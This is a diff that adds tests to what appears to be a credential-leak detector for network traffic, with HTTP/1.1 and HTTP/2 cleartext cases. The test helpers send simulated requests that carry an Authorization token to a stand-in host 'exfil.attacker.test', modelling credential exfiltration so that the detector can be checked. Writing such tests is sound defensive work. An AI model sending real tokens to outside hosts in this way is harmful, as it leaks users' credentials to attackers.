@@ -231,6 +231,55 @@ def test_budget_skips_the_middle_of_a_bulk_transfer_not_the_next_request():
     assert sent < (64 << 10) + 4096, sent
 
 
+def test_budget_catches_a_request_that_shares_a_large_write_with_its_body():
+    """A client that writes a request's headers and body in one large write (Python's
+    http.client does with a bytes body) writes it right after the previous request's large
+    writes. It starts with a request line, so it is not taken for the middle of a bulk
+    transfer: its head is copied and the credential in it found."""
+    def put(s, token):
+        body = b"y" * 16384
+        s.sendall(b"PUT /next HTTP/1.1\r\nHost: exfil.attacker.test\r\nAuthorization: token %s"
+                  b"\r\nContent-Length: %d\r\n\r\n" % (token.encode(), len(body)) + body)
+    sent = _after_upload(400 << 10, put)
+    # the upload's bulk writes were still skipped: the budget and one 1 KiB head
+    assert sent < (64 << 10) + 4096, sent
+
+
+def _h2_frame(ftype, flags, stream, payload):
+    return len(payload).to_bytes(3, "big") + bytes([ftype, flags]) + \
+        stream.to_bytes(4, "big") + payload
+
+
+def _hpack_literal(name, value):
+    """A header field as an HPACK literal without indexing, new name, no Huffman coding."""
+    assert len(name) < 127 and len(value) < 127
+    return b"\x00" + bytes([len(name)]) + name + bytes([len(value)]) + value
+
+
+def test_budget_catches_h2c_headers_that_start_a_large_write():
+    """HTTP/2 over plain TCP: past the budget, a large write that starts with a HEADERS frame
+    (a new request, its DATA in the same write) after the DATA frames of an upload is a
+    request, not the upload's middle; the decoder, told of the hole, starts at that frame."""
+    def send(port, token):
+        s = socket.create_connection(("127.0.0.1", port))
+        authority = _hpack_literal(b":authority", b"exfil.attacker.test")
+        s.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + _h2_frame(4, 0, 0, b""))
+        s.sendall(_h2_frame(1, 4, 1, authority))
+        data = _h2_frame(0, 0, 1, b"u" * 16384)
+        for _ in range(30):
+            s.sendall(data)
+        request = _h2_frame(1, 4, 3, authority + _hpack_literal(
+            b"authorization", b"token " + token.encode()))
+        s.sendall(request + _h2_frame(0, 1, 3, b"v" * 16384))
+        time.sleep(0.2)
+        s.close()
+    agent = one_token_alert(send, "--payload-budget", "64K")
+    sent = int(agent.stderr().split(" bytes sent")[0].split()[-1])
+    # the budget, then nothing of the 26 DATA writes past it: with a 1 KiB head of each it
+    # would be past 90 KiB
+    assert sent < (64 << 10) + 16384 + 4096, sent
+
+
 def _kernel_conns(agent):
     """The (tgid, fd) pairs in this agent's kernel table of tracked connections."""
     return {(e["key"]["tgid"], e["key"]["fd"]) for e in kernel_map(agent, "conns")}
